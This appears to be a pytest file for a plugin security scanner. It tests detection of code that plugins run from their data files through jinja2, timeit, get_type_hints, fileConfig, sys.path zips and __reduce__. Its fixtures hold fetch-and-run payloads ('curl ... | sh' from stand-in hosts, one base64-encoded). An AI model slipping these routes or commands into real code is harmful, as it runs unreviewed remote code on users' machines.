"""attack26: code the standard library runs from a plugin's data files under other names
than exec (caplet._scan._text_routes).

The attack is branch attack26's probe (tests/_sandbox/test_attack26_probe.py there): a
plugin ran text from its own data files through ``typing.get_type_hints`` (a class's
``__annotations__`` filled from ``helpers.txt``), ``logging.config.fileConfig`` (the
``args`` of a handler in ``log.ini``), a zip put on ``sys.path``, and ``copy.copy`` of an
object whose ``__reduce_ex__`` returned a callable it held. Scanned alone, each route was
clean in plugin mode on main: the gate enabled the plugin, and neither the scanner nor the
auditor had read the code it ran. Each is now dynamic code as ``exec(open(...).read())``
is: CPL-DYN-001 (or -002 for what imports or calls by a name read at run time), danger in
a plugin. The near misses are what real code writes: literal annotations read by
``get_type_hints`` (dataclasses, pydantic), a configuration dict written out, a
``__reduce__`` that returns the class itself, ``copy.copy`` of an ordinary object.
"""

from __future__ import annotations

import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from caplet import PluginHost
from caplet._findings import Finding, Severity
from caplet._sandbox._sandboxed import SandboxLauncher
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source, scan_tree
from tests._scan.prefilterkit import found_in_a_package
from tests.conftest import FILECONFIG_PAYLOAD, PluginFactory

_HEAD = """
import copy, io, json, logging.config, sys, typing
from pathlib import Path
HERE = Path(__file__).parent
"""

#: Each route alone, as the plugin writes it: (source, rule, words the message holds).
ROUTES = {
    # lib29: jinja2 compiles a template to Python (attack27's open row)
    "a template of data": (
        """
        import jinja2
        def run():
            return jinja2.Template((HERE / "page.txt").read_text()).render()
        """,
        "CPL-DYN-001",
        "jinja2.Template(...) of text not written in the source (jinja2 compiles a template",
    ),
    "an environment's from_string of data": (
        """
        from jinja2 import Environment
        def run(text):
            return Environment().from_string(text).render()
        """,
        "CPL-DYN-001",
        "Environment().from_string(...) of text not written in the source",
    ),
    "a sandboxed environment's from_string of data": (
        """
        from jinja2.sandbox import SandboxedEnvironment
        class Open(SandboxedEnvironment):
            def is_safe_attribute(self, obj, attr, value):
                return True
        ENV = Open()
        def run():
            return ENV.from_string((HERE / "page.txt").read_text()).render()
        """,
        "CPL-DYN-001",
        "ENV.from_string(...) of text not written in the source",
    ),
    "a native environment's compile_expression of data": (
        """
        import jinja2.nativetypes
        def run(text):
            return jinja2.nativetypes.NativeEnvironment().compile_expression(text)()
        """,
        "CPL-DYN-001",
        ".compile_expression(...) of text not written in the source",
    ),
    "an environment's compile of data": (
        """
        import jinja2
        def run(text):
            env = jinja2.Environment()
            return env.compile(text)
        """,
        "CPL-DYN-001",
        "env.compile(...) of text not written in the source",
    ),
    "a loader over the plugin's files": (
        """
        import jinja2
        ENV = jinja2.Environment(loader=jinja2.FileSystemLoader(str(HERE / "templates")))
        def run():
            return ENV.get_template("page.html").render()
        """,
        "CPL-DYN-001",
        "jinja2.FileSystemLoader(...) (each template it loads is text no reviewer reads",
    ),
    "a dict loader of data": (
        """
        from jinja2 import DictLoader, Environment
        def run():
            pages = json.loads((HERE / "pages.json").read_text())
            return Environment(loader=DictLoader(pages)).get_template("a").render()
        """,
        "CPL-DYN-001",
        "jinja2.DictLoader(...)",
    ),
    "timeit of data": (
        """
        import timeit
        def run():
            return timeit.timeit((HERE / "helpers.txt").read_text(), number=1)
        """,
        "CPL-DYN-001",
        "timeit.timeit(...) of text not written in the source (it runs the text as Python",
    ),
    "timeit's setup of data": (
        """
        import timeit
        def run():
            text = (HERE / "helpers.txt").read_text()
            return timeit.Timer("pass", setup=text).timeit(1)
        """,
        "CPL-DYN-001",
        "timeit.Timer(...) of text not written in the source",
    ),
    "a profiler's run of data": (
        """
        import cProfile
        def run(text):
            cProfile.run(text)
        """,
        "CPL-DYN-001",
        "cProfile.run(...) of text not written in the source",
    ),
    "a class annotation naming data": (
        """
        text = (HERE / "helpers.txt").read_text()
        class Box:
            x: text
        def run():
            return typing.get_type_hints(Box)
        """,
        "CPL-DYN-001",
        "an annotation naming text, which holds text not written in the source",
    ),
    "a string annotation naming data": (
        """
        class Box:
            x: "list[Loaded]"
        Loaded = json.loads((HERE / "types.json").read_text())["x"]
        """,
        "CPL-DYN-001",
        "an annotation naming Loaded",
    ),
    "a signature annotation naming data": (
        """
        CONFIG = json.load(open(HERE / "config.json"))
        def handler(value: CONFIG["type"]) -> None:
            return None
        """,
        "CPL-DYN-001",
        "an annotation naming CONFIG",
    ),
    "a module annotation naming the environment": (
        """
        import os
        Alias = os.environ["PLUGIN_TYPE"]
        VALUE: Alias | None = None
        """,
        "CPL-DYN-001",
        "an annotation naming Alias",
    ),
    "a return annotation built at run time": (
        """
        PREFIX = sys.argv[0]
        def run() -> f"{PREFIX}.Kind":
            return None
        """,
        "CPL-DYN-001",
        "which holds text not written in the source",
    ),
    "sys.path of a folder named by data": (
        """
        def run():
            config = json.loads((HERE / "config.json").read_text())
            sys.path.insert(0, str(HERE / config["plugins"]))
        """,
        "CPL-DYN-002",
        "sys.path.insert(...) of a path chosen at run time (Python imports modules from it",
    ),
    "sys.path of a zip under another name": (
        """
        sys.path.append(str(HERE / "helpers.dat"))
        """,
        "CPL-DYN-002",
        "sys.path.append(...) of an archive",
    ),
    "annotations assigned": (
        """
        def run():
            text = (HERE / "helpers.txt").read_text()
            class Box:
                pass
            Box.__annotations__ = {"x": text}
            return typing.get_type_hints(Box, {}, {})
        """,
        "CPL-DYN-001",
        "__annotations__ filled from a value not written in the source",
    ),
    "one annotation stored": (
        """
        class Box:
            x: int
        def run(text):
            Box.__annotations__["x"] = text
            return typing.get_type_hints(Box)
        """,
        "CPL-DYN-001",
        "typing.get_type_hints and pydantic evaluate string annotations",
    ),
    "annotations updated": (
        """
        class Box:
            pass
        def run():
            Box.__annotations__.update(x=open(HERE / "t.txt").read())
            return typing.get_type_hints(Box)
        """,
        "CPL-DYN-001",
        "write the annotations in the class body",
    ),
    "annotations by setattr": (
        """
        def run(text):
            Box = type("Box", (), {})
            setattr(Box, "__annotations__", {"x": text})
            return typing.get_type_hints(Box)
        """,
        "CPL-DYN-001",
        "__annotations__ filled",
    ),
    "annotations of a class type() makes": (
        """
        def run(text):
            return typing.get_type_hints(type("Box", (), {"__annotations__": {"x": text}}))
        """,
        "CPL-DYN-001",
        "__annotations__ filled",
    ),
    "a forward reference of data": (
        """
        def run():
            ref = typing.ForwardRef((HERE / "helpers.txt").read_text())
            return ref._evaluate(globals(), {}, frozenset())
        """,
        "CPL-DYN-001",
        "typing.ForwardRef(...) of text not written in the source",
    ),
    "fileConfig of the plugin's INI": (
        """
        def run():
            logging.config.fileConfig(HERE / "logging.ini")
        """,
        "CPL-DYN-001",
        "logging.config.fileConfig(...) (it evaluates the class, args and kwargs",
    ),
    "fileConfig of a literal name": (
        """
        logging.config.fileConfig("logging.ini")
        """,
        "CPL-DYN-001",
        "write the logging configuration as a dict literal in the plugin's source",
    ),
    "fileConfig of a stream of data": (
        """
        def run():
            logging.config.fileConfig(io.StringIO((HERE / "log.ini").read_text()))
        """,
        "CPL-DYN-001",
        "code in a data file no reviewer reads",
    ),
    "a verified listener": (
        """
        def run(check):
            logging.config.listen(9999, verify=check).start()
        """,
        "CPL-DYN-001",
        "logging.config.listen(...)",
    ),
    "dictConfig of a file": (
        """
        def run():
            logging.config.dictConfig(json.loads((HERE / "log.json").read_text()))
        """,
        "CPL-DYN-002",
        "logging.config.dictConfig(...) of a configuration not written in the source",
    ),
    "dictConfig with a section of data": (
        """
        def run():
            loaded = json.loads((HERE / "log.json").read_text())
            logging.config.dictConfig({"version": 1, "handlers": loaded["handlers"]})
        """,
        "CPL-DYN-002",
        "'()' and 'class' keys name the callables it imports and calls",
    ),
    "dictConfig with a factory of data": (
        """
        def run(name):
            logging.config.dictConfig(
                {"version": 1, "handlers": {"h": {"()": name, "args": "x"}}}
            )
        """,
        "CPL-DYN-002",
        "dictConfig",
    ),
    "a zip on sys.path": (
        """
        def run():
            sys.path.insert(0, str(HERE / "data.zip"))
            import evil
            return evil.X
        """,
        "CPL-DYN-002",
        "sys.path.insert(...) of an archive",
    ),
    "an egg on sys.path by name": (
        """
        EGG = HERE / "vendor.egg"
        sys.path.append(str(EGG))
        """,
        "CPL-DYN-002",
        "ship the modules as .py files in the plugin",
    ),
    "__reduce_ex__ of a held callable": (
        """
        class Made:
            def __init__(self, func, args):
                self.func, self.args = func, args
            def __reduce_ex__(self, proto):
                return (self.func, self.args)
        def run(func, data):
            return copy.copy(Made(func, (data,)))
        """,
        "CPL-DYN-001",
        "Made.__reduce_ex__ returning self.func, a callable chosen at run time",
    ),
    "__reduce__ of a parameter's callable": (
        """
        def maker(func):
            class Made:
                def __reduce__(self):
                    return func, ()
            return copy.deepcopy(Made())
        """,
        "CPL-DYN-001",
        "return the class itself, self.__class__, with its arguments",
    ),
    "a reducer bound as a lambda": (
        """
        class Made:
            def __init__(self, func):
                self.func = func
            __reduce__ = lambda self: (self.func, ())
        """,
        "CPL-DYN-001",
        "Made.__reduce__ returning self.func",
    ),
    "a reducer registered with copyreg": (
        """
        import copyreg
        class Made:
            pass
        def reducer(made):
            return made.func, made.args
        copyreg.pickle(Made, reducer)
        """,
        "CPL-DYN-001",
        "copyreg.pickle(...)'s reducer returning made.func",
    ),
}


def plugin_findings(body: str) -> list[Finding]:
    source = textwrap.dedent(_HEAD) + textwrap.dedent(body)
    return scan_source(source, "plugin.py", mode=ScanMode.PLUGIN)


def dynamic(findings: list[Finding]) -> list[Finding]:
    return [
        f
        for f in findings
        if f.rule_id in {"CPL-DYN-001", "CPL-DYN-002"} and f.severity is Severity.DANGER
    ]


@pytest.mark.parametrize("name", sorted(ROUTES))
def test_a_route_that_runs_data_is_dynamic_code_in_a_plugin(name: str) -> None:
    body, rule_id, words = ROUTES[name]
    found = [f for f in dynamic(plugin_findings(body)) if f.rule_id == rule_id]
    assert found, f"{name}: no {rule_id}"
    assert any(words in f.message for f in found), [f.message for f in found]
    # the finding names the line of the route, and says what to do
    lines = textwrap.dedent(_HEAD + textwrap.dedent(body)).splitlines()
    assert all(f.file == "plugin.py" and 0 < f.line <= len(lines) for f in found)


@pytest.mark.parametrize("name", sorted(ROUTES))
def test_a_route_is_only_an_observed_capability_in_a_package(name: str) -> None:
    # as exec(open(...).read()) is: a package's own data read and run is routine
    body = textwrap.dedent(_HEAD) + textwrap.dedent(ROUTES[name][0])
    findings = scan_source(body, "pkg/__init__.py", mode=ScanMode.PACKAGE)
    assert not [f for f in findings if f.severity is Severity.DANGER]


def test_the_finding_is_at_the_route_s_line() -> None:
    findings = dynamic(plugin_findings(ROUTES["annotations assigned"][0]))
    [found] = findings
    assert found.line == 10  # Box.__annotations__ = {"x": text}
    assert "Box.__annotations__" in found.excerpt


NEAR_MISSES = {
    # lib29: a template written in the source (the worker refuses its compile anyway, with
    # a message saying so); re.compile and other libraries' from_string are no templates
    "templates written in the source": """
        import re
        import jinja2
        PAGE = "Hello {{ name }}"
        ENV = jinja2.Environment(loader=jinja2.DictLoader({"a": "{{ 1 }}", "b": PAGE}))
        def run(name, pattern):
            first = jinja2.Template("{{ n + 1 }}").render(n=1)
            second = ENV.from_string(PAGE).render(name=name)
            third = ENV.compile_expression("a + b")(a=1, b=2)
            return first, second, third, ENV.get_template("a").render(), re.compile(pattern)
        """,
    "a from_string of another library": """
        import decimal
        class Money:
            @classmethod
            def from_string(cls, text):
                return cls(decimal.Decimal(text))
        def run(text, pattern):
            return Money.from_string(text), re.compile(pattern)
        """,
    "runners of text written in the source": """
        import cProfile
        import timeit
        def run(n):
            cProfile.run("sum(range(10))")
            return timeit.timeit("x = 1", setup="y = 2", number=n)
        """,
    "literal annotations read": """
        from dataclasses import dataclass
        from typing import Optional
        @dataclass
        class Point:
            x: int
            y: "Optional[float]" = None
        class Model:
            name: str
            tags: list[str]
        HINTS = typing.get_type_hints(Point), typing.get_type_hints(Model, globals())
        def hints(cls):
            return typing.get_type_hints(cls, include_extras=True)
        """,
    "annotations written by the code": """
        from typing import Optional
        class Base:
            a: int
        class Box(Base):
            pass
        Box.__annotations__ = {**Base.__annotations__, "b": Optional[str], "c": "Base"}
        Box.__annotations__["d"] = int | None
        setattr(Box, "__annotations__", {"e": list[Base]})
        Made = type("Made", (), {"__annotations__": {"f": float}})
        def wraps(function):
            def wrapper(*args):
                return function(*args)
            wrapper.__annotations__ = getattr(function, "__annotations__", {})
            return wrapper
        """,
    "annotations naming types and aliases": """
        import collections
        import enum
        from typing import Annotated, Any, NewType, TypeVar
        T = TypeVar("T")
        JSON = dict[str, Any]
        Number = int | float
        UserId = NewType("UserId", int)
        Color = enum.Enum("Color", "RED GREEN")
        Pair = collections.namedtuple("Pair", "a b")
        Later = "list[Number]"
        DOC = (HERE / "doc.txt").read_text()
        class Box:
            a: T
            b: JSON
            c: "Number"
            d: UserId
            e: Color
            f: Pair
            g: Later
            h: Annotated[str, DOC]
        def run(value: Box, kind: type[Box] = Box) -> dict[str, JSON]:
            local: DOC = 1  # a function body's annotations are never stored
            return typing.get_type_hints(Box, include_extras=True)
        def factory(kind):
            class Made:
                x: kind
            return Made
        """,
    "a literal forward reference": """
        REF = typing.ForwardRef("int")
        """,
    "a configuration written out": """
        import os
        class JsonFormatter(logging.Formatter):
            pass
        LEVEL = os.environ.get("LOG_LEVEL", "INFO")
        CONFIG = {
            "version": 1,
            "formatters": {"json": {"()": JsonFormatter}, "plain": {"format": "%(message)s"}},
            "handlers": {
                "console": {
                    "class": "logging.StreamHandler",
                    "stream": "ext://sys.stderr",
                    "formatter": "plain",
                    "level": LEVEL,
                }
            },
            "root": {"level": LEVEL, "handlers": ["console"]},
        }
        logging.config.dictConfig(CONFIG)
        logging.config.dictConfig({"version": 1, "incremental": True, "root": {"level": "DEBUG"}})
        """,
    "fileConfig of text written out": """
        INI = "[loggers]\\nkeys=root\\n[handlers]\\nkeys=\\n[formatters]\\nkeys=\\n"
        logging.config.fileConfig(io.StringIO(INI))
        """,
    "copies and reducers that name the class": """
        import copyreg
        def _rebuild(a):
            return Point(a)
        class Point:
            def __init__(self, a):
                self.a = a
            def __reduce__(self):
                return (self.__class__, (self.a,))
        class Other(Point):
            def __reduce_ex__(self, proto):
                if proto > 2:
                    return type(self), (self.a,)
                return _rebuild, (self.a,)
        class Third(Point):
            def _make(self):
                return self
            def __reduce__(self):
                return self._make, ()
        class Fourth(Point):
            def __reduce_ex__(self, proto):
                return copyreg.__newobj__, (Fourth,), self.__dict__
        class Fifth(Point):
            def __reduce__(self):
                return Fifth, (self.a,)
        class Sixth(Point):
            def __reduce__(self):
                return "Sixth"
        class Seventh(Point):
            __reduce__ = lambda self: (Seventh, (self.a,))
        class Eighth(Point):
            @classmethod
            def _unpickle(cls, a):
                return cls(a)
            def __reduce__(self):
                return self.__class__._unpickle, (self.a,)
        class Ninth(Point):
            def __reduce__(self):
                import functools
                return functools.partial(self.__class__, a=self.a), ()
        copyreg.pickle(Point, lambda p: (Point, (p.a,)))
        P = copy.copy(Point(1))
        Q = copy.deepcopy({"a": [1, 2]})
        """,
    "the plugin's own folder on sys.path": """
        import os
        import site
        import sysconfig
        ROOT = Path(__file__).resolve().parents[1]
        sys.path.insert(0, str(HERE / "vendor"))
        sys.path.append(str(HERE))
        sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
        sys.path.append(os.path.join(os.path.dirname(__file__), "lib", "python3.11"))
        sys.path.insert(0, str(ROOT))
        sys.path.insert(0, str(Path(__file__).with_name("lib")))
        sys.path.insert(0, sysconfig.get_paths()["purelib"])
        sys.path.extend(site.getsitepackages())
        """,
}


@pytest.mark.parametrize("name", sorted(NEAR_MISSES))
def test_what_the_source_writes_out_stays_clean(name: str) -> None:
    assert dynamic(plugin_findings(NEAR_MISSES[name])) == []


# -- package mode: exec of a stage, as exec's argument is ----------------------------------

_STAGE = "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly90LmV4YW1wbGUvcCB8IHNoJyk="

STAGES = [
    # a decoded stage stored as an annotation, evaluated by get_type_hints
    (
        f"""
        import base64, typing
        class Box:
            pass
        Box.__annotations__ = {{"x": base64.b64decode("{_STAGE}").decode()}}
        typing.get_type_hints(Box)
        """,
        "CPL-THR-001",
    ),
    (
        f"""
        import base64, typing
        class Box:
            x: int
        Box.__annotations__["x"] = base64.b64decode("{_STAGE}").decode()
        typing.get_type_hints(Box, {{}}, {{}})
        """,
        "CPL-THR-001",
    ),
    # a downloaded forward reference, evaluated by its own _evaluate
    # lib29: a decoded template, as exec of it is
    (
        f"""
        import base64, jinja2
        jinja2.Template(base64.b64decode("{_STAGE}").decode()).render()
        """,
        "CPL-THR-001",
    ),
    (
        f"""
        import base64, jinja2
        env = jinja2.Environment()
        env.from_string(base64.b64decode("{_STAGE}").decode()).render()
        """,
        "CPL-THR-001",
    ),
    (
        """
        import typing, urllib.request
        text = urllib.request.urlopen("https://t.example/ref").read().decode()
        typing.ForwardRef(text)._evaluate(globals(), {}, frozenset())
        """,
        "CPL-THR-002",
    ),
]


def test_a_sandboxed_or_downloaded_template_is_no_stage_in_a_package() -> None:
    # near misses from the benign corpus: fsspec renders its references' data with
    # jinja2's sandbox (base64 among them); scikit-learn's doc/conf.py renders a
    # downloaded template
    text = textwrap.dedent(
        f"""
        import base64, jinja2, jinja2.sandbox, urllib.request
        sandbox = jinja2.sandbox.SandboxedEnvironment()
        sandbox.from_string(base64.b64decode("{_STAGE}").decode()).render()
        jinja2.sandbox.SandboxedEnvironment().from_string(base64.b64decode("{_STAGE}").decode())
        page = urllib.request.urlopen("https://t.example/page").read().decode()
        jinja2.Template(page).render()
        """
    )
    findings = scan_source(text, "pkg/__init__.py", mode=ScanMode.PACKAGE)
    assert [f for f in findings if f.severity is Severity.DANGER] == []


@pytest.mark.parametrize(("source", "rule_id"), STAGES)
def test_a_stage_an_annotation_reader_evaluates_is_run_in_a_package(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule_id: str
) -> None:
    text = textwrap.dedent(source)
    findings = scan_source(text, "pkg/__init__.py", mode=ScanMode.PACKAGE)
    assert rule_id in {f.rule_id for f in findings if f.severity is Severity.DANGER}
    found_in_a_package(tmp_path, monkeypatch, text, rule_id)  # the prefilter keeps it


_LOADS_INI = """\
import logging.config
import os

logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "logging.ini"))
"""


def _package(root: Path, ini: str) -> Path:
    (root / "logpkg").mkdir()
    (root / "logpkg/__init__.py").write_text(_LOADS_INI, encoding="utf-8")
    (root / "logpkg/logging.ini").write_text(ini, encoding="utf-8")
    return root


def test_the_python_of_an_ini_a_package_hands_fileconfig_is_scanned(tmp_path: Path) -> None:
    payload = FILECONFIG_PAYLOAD.replace(
        "__import__('ctypes').sizeof(__import__('ctypes').c_int)",
        "__import__('os').system('curl -s https://stage.example/i | sh')",
    )
    report = scan_tree(_package(tmp_path, payload), (), mode=ScanMode.PACKAGE)
    [found] = [f for f in report.findings if f.severity is Severity.DANGER]
    assert (found.rule_id, found.file) == ("CPL-THR-016", "logpkg/logging.ini")
    assert "the package's code running logpkg/logging.ini (CPL-THR-015 inside)" in found.message


def test_an_ordinary_ini_a_package_hands_fileconfig_stays_clean(tmp_path: Path) -> None:
    ini = FILECONFIG_PAYLOAD.replace(
        "__import__('ctypes').sizeof(__import__('ctypes').c_int) and __import__('sys').stderr",
        "sys.stderr",
    )
    report = scan_tree(_package(tmp_path, ini), (), mode=ScanMode.PACKAGE)
    assert not [f for f in report.findings if f.severity is Severity.DANGER]


# -- the gate: the probe's routes refused at enable --------------------------------------

TYPING_PLUGIN = """\
import typing
from pathlib import Path

HERE = Path(__file__).parent


def create_functions(config):
    def run():
        text = (HERE / "helpers.txt").read_text()

        class Box:
            pass

        Box.__annotations__ = {"x": text}
        return str(typing.get_type_hints(Box, {}, {})["x"])

    return {"main": {"run": run}}
"""

LOGGING_PLUGIN = """\
import logging.config
from pathlib import Path

HERE = Path(__file__).parent


def create_functions(config):
    def run():
        logging.config.fileConfig(HERE / "log.ini")
        return "configured"

    return {"main": {"run": run}}
"""


@pytest.fixture(scope="module")
def launcher() -> Iterator[SandboxLauncher]:
    sandbox = SandboxLauncher(strict=True)
    yield sandbox
    sandbox.close()


@pytest.mark.security
@pytest.mark.parametrize(
    ("source", "files", "line"),
    [
        (TYPING_PLUGIN, {"helpers.txt": "[__import__('ctypes').c_int, int][1]"}, 14),
        (LOGGING_PLUGIN, {"log.ini": FILECONFIG_PAYLOAD}, 9),
    ],
)
def test_the_probe_s_routes_are_refused_at_enable(
    make_plugin: PluginFactory,
    plugins_dir: Path,
    state_dir: Path,
    launcher: SandboxLauncher,
    source: str,
    files: dict[str, str],
    line: int,
) -> None:
    make_plugin("probe", source=source, files=files)
    with PluginHost(plugins_dir, state_dir=state_dir, launcher=launcher) as host:
        outcome = host.enable("probe", consent=True)
        # On main: enabled, and main.run ran ctypes from the data file.
        ran = host.call("probe", "main.run") if outcome else None
        assert not outcome, f"code from a data file passed the gate and ran: {ran}"
        assert "CPL-DYN-001" in outcome.reason
        assert f"plugin.py:{line}" in outcome.reason
